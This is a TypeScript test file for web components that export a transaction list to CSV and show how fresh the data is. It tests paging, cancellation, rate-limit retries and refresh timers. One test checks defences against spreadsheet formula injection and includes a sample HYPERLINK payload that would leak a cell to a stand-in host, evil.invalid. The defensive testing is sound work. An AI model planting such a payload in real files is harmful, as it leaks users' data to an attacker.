/** Export (a CSV of every page of the current query) and freshness (how old the data is, Refresh, refresh-interval). */
import { expect } from '@open-wc/testing';
import '../src/define.js';
import { createCalicoClient } from '../src/index.js';
import type { CalicoErrorEvent, CalicoExportEvent } from '../src/events.js';
import type { Transaction } from '../src/schemas/calico.js';
import { csvField } from '../src/util/csv.js';
import { toUtc } from '../src/util/time-range.js';
import { updatedText } from '../src/templates/freshness.js';
import { COMMON_STRINGS } from '../src/locales/en/shared.js';
import { captureWarnings, collect, mount, waitFor, type ListHarness } from './helpers/harness.js';
import { scenario, sleep, tokenProvider } from './helpers/sandbox.js';

const RICH = '946416e3-f6b4-4a54-86e9-9e2843f0573e'; // 240 transactions: three export pages of 100
type Exporting = HTMLElement & { exportCsv(o?: { signal?: AbortSignal }): Promise<{ rows: number; complete: boolean }>; refresh(): void };

/** The anchor clicks that would download a file: their names and bytes (the click itself is held back). */
function captureDownloads() {
  const saved: { name: string; href: string }[] = [];
  const original = HTMLAnchorElement.prototype.click;
  HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
    if (this.download) saved.push({ name: this.download, href: this.href });
    else original.call(this);
  };
  return {
    saved,
    bytes: async (i = 0) => new Uint8Array(await (await fetch(saved[i]!.href)).arrayBuffer()),
    restore: () => (HTMLAnchorElement.prototype.click = original),
  };
}

/** RFC 4180, enough to read our own files back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  if (field || row.length) throw new Error('the file does not end with CRLF');
  return rows;
}

const decode = (bytes: Uint8Array) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
const statusText = (h: ListHarness) => h.part('export-status')?.textContent?.trim() ?? '';
const freshnessText = (h: ListHarness) => h.part('freshness')?.textContent?.replace(/\s+/g, ' ').trim() ?? '';

describe('export to CSV', () => {
  let downloads: ReturnType<typeof captureDownloads>;
  beforeEach(() => (downloads = captureDownloads()));
  afterEach(() => downloads.restore());

  it('saves every page of the query once: BOM, header in the widget\'s words, CRLF, exact decimals, ISO UTC times', async () => {
    const s = await scenario();
    const h = await mount<Exporting>('calico-transactions', { 'base-url': s.calicoBaseUrl, 'user-id': RICH, export: '', 'page-size': '10' }, { tokenProvider: tokenProvider() });
    await h.rowsSettled();
    const saved = collect<CalicoExportEvent>(h.el, 'calico-export');
    h.button('Export').click();
    await waitFor(() => saved.length, 'the file');
    const bytes = await downloads.bytes();
    expect([...bytes.slice(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    expect([...new Uint8Array(await saved[0]!.file.arrayBuffer())]).to.deep.equal([...bytes]); // the event carries the same file
    expect(downloads.saved[0]!.name).to.match(/^calico-transactions-\d{4}-\d{2}-\d{2}\.csv$/);
    // The export asked for the largest pages, with the widget's query and past the cache: three requests of 100.
    expect((await s.requests()).filter((r) => r.query.limit === '100')).to.have.length(3);
    const rows = parseCsv(decode(bytes).slice(1));
    expect(rows[0]).to.deep.equal([
      'Time (UTC)', 'Type', 'Out quantity', 'Out asset', 'Out value', 'Out value currency', 'In quantity', 'In asset', 'In value',
      'In value currency', 'Fees', 'Fees currency', 'Fee items', 'Source', 'Category', 'Subcategory', 'Transaction ID',
    ]);
    // What the API has, read independently through a client of our own.
    const client = createCalicoClient({ baseUrl: s.calicoBaseUrl, tokenProvider: tokenProvider() });
    const all: Transaction[] = [];
    for (let page = await client.userTransactions(RICH, { limit: 100 }); ; page = await client.userTransactions(RICH, { limit: 100 }, { page: page.next })) {
      all.push(...page.items);
      if (!page.next) break;
    }
    expect(all).to.have.length(240);
    expect(rows).to.have.length(all.length + 1);
    expect(new Set(rows.slice(1).map((r) => r.at(-1))).size).to.equal(all.length); // every transaction once
    const byId = new Map(rows.slice(1).map((r) => [r.at(-1)!, r]));
    for (const t of all) {
      const row = byId.get(t.transaction_id)!;
      expect(row[0]).to.match(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
      expect(Date.parse(row[0]!)).to.equal(Math.floor(Date.parse(t.timestamp) / 1000) * 1000);
      expect([row[2], row[3], row[4], row[5]]).to.deep.equal([t.output?.quantity ?? '', t.output?.asset_symbol ?? '', t.output?.value?.amount ?? '', t.output?.value?.currency ?? '']);
      expect([row[6], row[7], row[8]]).to.deep.equal([t.input?.quantity ?? '', t.input?.asset_symbol ?? '', t.input?.value?.amount ?? '']);
      // The API's codes, not the words on screen: a finance team reconciles on them.
      expect([row[1], row[13], row[14], row[15]]).to.deep.equal([t.transaction_type, t.provider_id, t.categorization?.category ?? '', t.categorization?.subcategory ?? '']);
    }
    expect(saved[0]).to.include({ rows: 240, complete: true });
    await waitFor(() => /Exported 240 rows/.test(statusText(h)), 'the outcome');
    // Said once, politely: a live region holds the outcome only, never the page-by-page progress.
    const live = [...h.root.querySelectorAll('[role="status"]')].filter((e) => /Export/.test(e.textContent!));
    expect(live.map((e) => e.textContent!.trim())).to.deep.equal([statusText(h)]);
  });

  it('neutralises every cell a spreadsheet would run as a formula; a plain negative number stays a number', async () => {
    expect(csvField('-45.86')).to.equal('-45.86');
    expect(csvField('-2+3')).to.equal("'-2+3");
    expect(csvField('=1+1')).to.equal("'=1+1");
    expect(csvField('a "b", c')).to.equal('"a ""b"", c"');
    expect(csvField(' =1+1')).to.equal("' =1+1"); // spreadsheets that trim the space would still run it
    expect(csvField('\u200b=1+1')).to.equal("'\u200b=1+1");
    expect(csvField('\uff1d1+1')).to.equal("'\uff1d1+1"); // a full-width equals sign
    // The small forms (﹢ ﹣ ﹦), the minus sign, and a sign after NUL, U+0085 or U+180E.
    for (const text of ['\ufe621+1', '\ufe631+1', '\ufe661+1', '\u22121+1', '\u0000=1+1', '\u0085=1+1', '\u180e=1+1']) {
      expect(csvField(text), JSON.stringify(text)).to.equal(`'${text}`);
    }
    expect(csvField('\n=1+1')).to.equal('"\'\n=1+1"');
    expect(csvField('a;=1+1')).to.equal('"a;=1+1"'); // Excel in some locales splits on ;
    expect(toUtc('2026-01-01T10:00:00+02:00')).to.equal('2026-01-01T08:00:00.000Z');
    expect(toUtc('2026-01-01T10:00:00')).to.equal('2026-01-01T10:00:00.000Z'); // no offset: UTC, not local time
    expect(toUtc('2026-01-01T10:00:00.123456Z')).to.equal('2026-01-01T10:00:00.123456Z'); // every digit
    const s = await scenario({ body: 'hostile' });
    const h = await mount<Exporting>('calico-user-accounts', { 'base-url': s.calicoBaseUrl, 'user-id': RICH }, { tokenProvider: tokenProvider() });
    await h.rowsSettled();
    expect(await h.el.exportCsv()).to.deep.equal({ rows: 6, complete: true });
    const cells = parseCsv(decode(await downloads.bytes()).slice(1)).slice(1).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).to.deep.equal([]);
    expect(cells).to.include('\'=HYPERLINK("https://evil.invalid/?leak="&A1,"Click")');
    expect(cells).to.include("'+1+1");
  });

  it('Cancel stops at once and saves nothing; the rows fetched can then be kept', async () => {
    const s = await scenario({ matchedLatency: 400, match: '/transactions' });
    const h = await mount<Exporting>('calico-transactions', { 'base-url': s.calicoBaseUrl, 'user-id': RICH, export: '' }, { tokenProvider: tokenProvider() });
    await h.rowsSettled();
    const saved = collect<CalicoExportEvent>(h.el, 'calico-export');
    h.button('Export').click();
    await waitFor(() => statusText(h) === 'Exporting… 100 rows', 'the first page of the export', 4000);
    h.button('Cancel').click();
    await waitFor(() => /cancelled after 100 rows/.test(statusText(h)), 'cancelled');
    await sleep(600); // the second page would have arrived by now
    expect(downloads.saved).to.have.length(0);
    expect(saved).to.have.length(0);
    expect((await s.requests()).filter((r) => r.query.limit === '100').length).to.be.at.most(2); // no page after the cancel
    h.button('Save the 100 rows').click();
    await waitFor(() => saved.length, 'the partial file');
    expect(saved[0]).to.include({ rows: 100, complete: false });
    expect(parseCsv(decode(await downloads.bytes()).slice(1))).to.have.length(101);
    // The method, cancelled by its signal, says so and saves nothing either.
    const controller = new AbortController();
    const running = h.el.exportCsv({ signal: controller.signal });
    await waitFor(() => /Exporting/.test(statusText(h)), 'a second export');
    controller.abort();
    expect(await running).to.deep.equal({ rows: 0, complete: false });
    expect(downloads.saved).to.have.length(1);
  });

  it('a change of the filters during the walk stops it (no file mixing two queries); a double click exports once', async () => {
    const s = await scenario({ matchedLatency: 300, match: '/transactions' });
    const h = await mount<Exporting>('calico-transactions', { 'base-url': s.calicoBaseUrl, 'user-id': RICH, export: '' }, { tokenProvider: tokenProvider() });
    await h.rowsSettled();
    const saved = collect<CalicoExportEvent>(h.el, 'calico-export');
    const button = h.button('Export');
    button.focus();
    button.click();
    button.click();
    await waitFor(() => statusText(h) === 'Exporting… 100 rows', 'the first page');
    await waitFor(() => h.root.activeElement === h.button('Cancel'), 'focus on Cancel'); // the pressed button went away: focus did not
    // The filters change while the second page is on its way (not before the walk asked for it: on a busy machine it may not have yet).
    await until(async () => (await s.requests()).filter((r) => r.query.limit === '100').length === 2, 'the second page asked for');
    h.el.setAttribute('start-time', '2020-01-01T00:00:00Z');
    await waitFor(() => /the list changed/.test(statusText(h)), 'stopped');
    expect(saved).to.have.length(0);
    expect(downloads.saved).to.have.length(0);
    expect((await s.requests()).filter((r) => r.query.limit === '100' && !r.query.start_time)).to.have.length(2);
    expect((await s.requests()).filter((r) => r.query.limit === '100' && r.query.start_time)).to.have.length(0);
  });

  it('the export reads no source names: a person\'s sources that never answer do not slow it', async () => {
    const s = await scenario({ match: '/providers', body: 'hang' });
    const h = await mount<Exporting>('calico-transactions', { 'base-url': s.calicoBaseUrl, 'user-id': RICH }, { tokenProvider: tokenProvider() });
    await h.rowsSettled();
    const before = (await s.requests()).filter((r) => r.path.endsWith('/providers')).length;
    const started = performance.now();
    expect(await h.el.exportCsv()).to.deep.equal({ rows: 240, complete: true });
    expect(performance.now() - started).to.be.below(2500); // three pages, none waiting a second for names
    expect((await s.requests()).filter((r) => r.path.endsWith('/providers'))).to.have.length(before);
  });

  it('a 429 in the middle waits for Retry-After, asks once more and completes', async () => {
    const s = await scenario({ status: 429, retryAfter: 1, times: 1, after: 2, match: '/transactions' });
    const h = await mount<Exporting>('calico-transactions', { 'base-url': s.calicoBaseUrl, 'user-id': RICH }, { tokenProvider: tokenProvider() });
    await h.rowsSettled();
    const started = performance.now();
    expect(await h.el.exportCsv()).to.deep.equal({ rows: 240, complete: true });
    expect(performance.now() - started).to.be.greaterThan(900);
    const statuses = (await s.requests()).filter((r) => r.path.endsWith('/transactions')).map((r) => r.status);
    expect(statuses).to.deep.equal([200, 200, 429, 200, 200]); // no storm: one wait, one retry
    expect(parseCsv(decode(await downloads.bytes()).slice(1))).to.have.length(241);
  });

  it('a failure that does not pass says so, fires calico-error and saves nothing', async () => {
    const s = await scenario({ status: 500, times: 1, after: 2, match: '/transactions' });
    const h = await mount<Exporting>('calico-transactions', { 'base-url': s.calicoBaseUrl, 'user-id': RICH, export: '' }, { tokenProvider: tokenProvider() });
    await h.rowsSettled();
    const errors = collect<CalicoErrorEvent>(h.el, 'calico-error');
    expect(await h.el.exportCsv()).to.deep.equal({ rows: 100, complete: false });
    await waitFor(() => /stopped after 100 rows/.test(statusText(h)), 'the failure');
    expect(errors).to.have.length(1);
    expect(downloads.saved).to.have.length(0);
    expect(h.alert()).to.equal(null); // the rows on screen are fine: no error panel
    h.button('Dismiss').click();
    await waitFor(() => [...h.root.querySelectorAll('button')].some((b) => b.textContent!.trim() === 'Export'), 'the Export button again');
  });
});

describe('freshness', () => {
  it('says how old the data is in words', () => {
    const now = Date.UTC(2026, 10, 23, 12);
    expect(updatedText(now - 30_000, now, 'en', COMMON_STRINGS)).to.equal('Updated just now');
    expect(updatedText(now - 125_000, now, 'en', COMMON_STRINGS)).to.equal('Updated 2 minutes ago');
    expect(updatedText(now - 3 * 3600_000, now, 'en', COMMON_STRINGS)).to.equal('Updated 3 hours ago');
    expect(updatedText(now - 26 * 3600_000, now, 'en', COMMON_STRINGS)).to.equal('Updated yesterday');
  });

  it('Refresh reads the page again past the cache, keeping the rows and the focus', async () => {
    const s = await scenario();
    const h = await mount('calico-users', { 'base-url': s.calicoBaseUrl, 'page-size': '10' }, { tokenProvider: tokenProvider() });
    await h.rowsSettled();
    expect(freshnessText(h)).to.equal('Updated just now');
    const before = h.rows();
    const requests = (await s.requests()).length;
    const refresh = h.button('Refresh');
    refresh.focus();
    refresh.click();
    await until(async () => (await s.requests()).length === requests + 1, 'one more request');
    await h.rowsSettled();
    expect(h.rows()[0]).to.equal(before[0]); // the same row elements
    expect(h.rows()).to.have.length(10);
    expect(h.root.activeElement === refresh).to.equal(true);
    expect(h.part('freshness')!.querySelector('time')!.getAttribute('datetime')).to.match(/Z$/);
    // Several widgets on a page: the Refresh button sits in a group named after its list.
    expect(refresh.closest('[role="group"]')!.getAttribute('aria-label')).to.equal('Users');
  });

  it('a refresh does not cut short a page move on its way', async () => {
    const s = await scenario({ latency: 300 });
    const h = await mount('calico-users', { 'base-url': s.calicoBaseUrl, 'page-size': '10' }, { tokenProvider: tokenProvider() });
    await h.rowsSettled();
    h.nextButton.click();
    await waitFor(() => h.busy, 'moving');
    (h.el as unknown as Exporting).refresh();
    await waitFor(() => h.live.startsWith('Rows 11–20'), 'page 2 arrives');
  });

  it('a refresh that fails keeps the rows and says they may be out of date', async () => {
    const s = await scenario({ status: 500, after: 1, match: '/users' });
    const h = await mount('calico-users', { 'base-url': s.calicoBaseUrl, 'page-size': '10' }, { tokenProvider: tokenProvider() });
    await h.rowsSettled();
    const before = h.rows();
    const errors = collect<CalicoErrorEvent>(h.el, 'calico-error');
    h.button('Refresh').click();
    await waitFor(() => /may be out of date/.test(freshnessText(h)), 'the stale notice');
    expect(h.rows()).to.deep.equal(before);
    expect(h.alert()).to.equal(null);
    expect(errors).to.have.length(1);
  });

  it('refresh-interval refreshes on time, pauses while the page is hidden, and refreshes once when it shows', async () => {
    const clock = fakeIntervals();
    try {
      const s = await scenario();
      const h = await mount('calico-user-accounts', { 'base-url': s.calicoBaseUrl, 'user-id': RICH, 'refresh-interval': '20' }, { tokenProvider: tokenProvider() });
      await h.rowsSettled();
      const count = async () => (await s.requests()).length;
      const n0 = await count();
      clock.tick(20_000);
      await until(async () => (await count()) === n0 + 1, 'a refresh after 20 s');
      setVisibility('hidden');
      clock.tick(120_000);
      await sleep(200);
      expect(await count()).to.equal(n0 + 1);
      setVisibility('visible');
      await until(async () => (await count()) === n0 + 2, 'one refresh when shown');
      clock.tick(20_000);
      await until(async () => (await count()) === n0 + 3, 'on time again');
    } finally {
      setVisibility(undefined);
      clock.restore();
    }
  });

  it('refresh-interval below 15 s warns once and uses 15 s', async () => {
    await captureWarnings(async (warnings) => {
      const clock = fakeIntervals();
      try {
        const s = await scenario();
        const h = await mount('calico-user-accounts', { 'base-url': s.calicoBaseUrl, 'user-id': RICH, 'refresh-interval': '5' }, { tokenProvider: tokenProvider() });
        await h.rowsSettled();
        expect(clock.intervals()).to.include(15_000);
        expect(warnings.filter((w) => /refresh-interval 5 is below 15 s; using 15/.test(w))).to.have.length(1);
      } finally {
        clock.restore();
      }
    });
  });

  it('calico-stats: one age for all panels; Refresh reads each again without blanking it', async () => {
    const s = await scenario();
    const h = await mount('calico-stats', { 'base-url': s.calicoBaseUrl }, { tokenProvider: tokenProvider() });
    await waitFor(() => h.root.querySelectorAll('[part~="tile"]').length === 4 && h.root.querySelectorAll('[part~="chart"]').length === 2, 'all panels');
    expect(freshnessText(h)).to.equal('Updated just now');
    const requests = (await s.requests()).length;
    h.button('Refresh').click();
    await until(async () => (await s.requests()).length === requests + 4, 'four fresh reads');
    expect(h.root.querySelectorAll('.skeleton')).to.have.length(0);
  });
});

/** Like waitFor, for a check that has to ask the sandbox. */
async function until(check: () => Promise<boolean>, what: string, timeout = 8000): Promise<void> {
  const started = performance.now();
  while (!(await check())) {
    if (performance.now() - started > timeout) throw new Error(`timed out waiting for ${what}`);
    await sleep(20);
  }
}

/** setInterval under the test's control (the network and every setTimeout stay real). */
function fakeIntervals() {
  const real = { set: window.setInterval, clear: window.clearInterval };
  const timers = new Map<number, { fn: () => void; ms: number; next: number }>();
  let now = 0;
  let id = 1_000_000;
  window.setInterval = ((fn: () => void, ms: number) => (timers.set(++id, { fn, ms, next: now + ms }), id)) as typeof window.setInterval;
  window.clearInterval = ((handle: number) => void (timers.delete(handle) || real.clear.call(window, handle))) as typeof window.clearInterval;
  return {
    tick(ms: number) {
      now += ms;
      for (const t of [...timers.values()]) while (t.next <= now) (t.next += t.ms), t.fn();
    },
    intervals: () => [...timers.values()].map((t) => t.ms),
    restore() {
      window.setInterval = real.set;
      window.clearInterval = real.clear;
    },
  };
}

/** The page's visibility as the browser reports it (undefined: the real one again). */
function setVisibility(state: 'hidden' | 'visible' | undefined) {
  if (state === undefined) delete (document as { visibilityState?: string }).visibilityState;
  else Object.defineProperty(document, 'visibilityState', { configurable: true, get: () => state });
  document.dispatchEvent(new Event('visibilitychange'));
}
